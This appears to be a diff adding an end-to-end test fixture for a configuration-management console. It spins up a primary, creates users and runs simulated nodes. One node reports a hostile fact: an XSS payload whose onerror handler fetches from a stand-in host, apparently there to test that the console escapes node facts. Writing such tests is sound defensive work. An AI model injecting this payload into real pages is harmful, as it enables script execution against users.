@@ -1,0 +1,87 @@
+/** A primary with a console, users, and nodes whose last runs ended in every way. */
+
+import { spawn } from 'node:child_process';
+import { mkdirSync } from 'node:fs';
+import { join } from 'node:path';
+import { text } from 'node:stream/consumers';
+import { inject } from 'vitest';
+import { freePort } from '../../../demo/ports.ts';
+import { SimulatedAgent } from '../../../demo/simulated-agent.ts';
+import { simulatedFacts } from '../../../demo/simulated-facts.ts';
+import type { SimulatedOutcome } from '../../../demo/simulated-report.ts';
+import { createLogger } from '../../../src/platform/log/index.ts';
+import { runningSite, type Site } from '../../../test/e2e/support/site.ts';
+
+export const password = 'correct horse battery';
+const [consolePort, usersPort] = [await freePort(), await freePort()];
+export const origin = `https://localhost:${consolePort}`;
+
+/** The names of the nodes, with what their runs report, one after another. */
+export const fleet: Readonly<Record<string, readonly SimulatedOutcome[]>> = {
+  'db01.e2e.test': ['intentional', 'unchanged', 'failed'],
+  'db02.e2e.test': ['intentional', 'failed'],
+  'web01.e2e.test': ['intentional', 'corrective', 'unchanged', 'failed', 'unchanged'],
+  'web02.e2e.test': ['intentional', 'unchanged', 'corrective'],
+  'web03.e2e.test': ['intentional'],
+  'web04.e2e.test': ['noop'],
+};
+
+/** What a node says of itself to those who look at its facts. */
+export const hostileFact = '<img src=x onerror="fetch(`//evil.test`)">';
+
+/** One primary for all scenarios of a file. */
+export function consoleSite(): () => Site {
+  return runningSite({
+    compileServers: 0,
+    settings: {
+      node_terminus: 'classifier',
+      console_services_port: usersPort,
+      console_port: consolePort,
+    },
+  });
+}
+
+/** Users with passwords. */
+export async function createUsers(site: Site): Promise<void> {
+  const data = ['--data', site.installation.primaryDirectory];
+  await bunraku(site, ['user', 'password', 'admin', ...data], password);
+  await bunraku(site, ['user', 'create', 'nobody', ...data], password);
+}
+
+async function bunraku({ installation }: Site, args: readonly string[], input: string): Promise<void> {
+  const { node, project } = installation.options;
+  const child = spawn(node, [join(project, 'dist', 'main.js'), ...args]);
+  child.stdin.end(input);
+  const ended = new Promise<number | null>((resolve) => {
+    child.on('close', resolve);
+  });
+  const [complaint, code] = await Promise.all([text(child.stderr), ended]);
+  if (code !== 0) throw new Error(complaint);
+}
+
+/** Lets each node run as often as is listed. */
+export async function runFleet(site: Site): Promise<void> {
+  const runs = Object.entries(fleet).map(async ([certname, outcomes], index) => {
+    const agent = new SimulatedAgent({
+      certname,
+      sslDir: join(site.directory, 'agents', certname, 'ssl'),
+      serverUrl: site.installation.primaryUrl,
+      environment: 'production',
+      facts: { ...simulatedFacts(certname, index), ...(index === 0 ? { hostile: hostileFact } : {}) },
+      key: { kind: 'ec', curve: 'P-256' },
+      outcome: (run) => outcomes[run] ?? 'unchanged',
+      log: createLogger({ level: 'warn', format: 'text' }),
+      signal: new AbortController().signal,
+    });
+    for (const _ of outcomes) await agent.run();
+    agent.close();
+  });
+  await Promise.all(runs);
+}
+
+/** Where pictures of all pages go; they replace those of earlier runs. */
+export function pictureDirectory(): string {
+  const directory = join(inject('project'), '.cache', 'console-pictures');
+  mkdirSync(directory, { recursive: true });
+  return directory;
+}
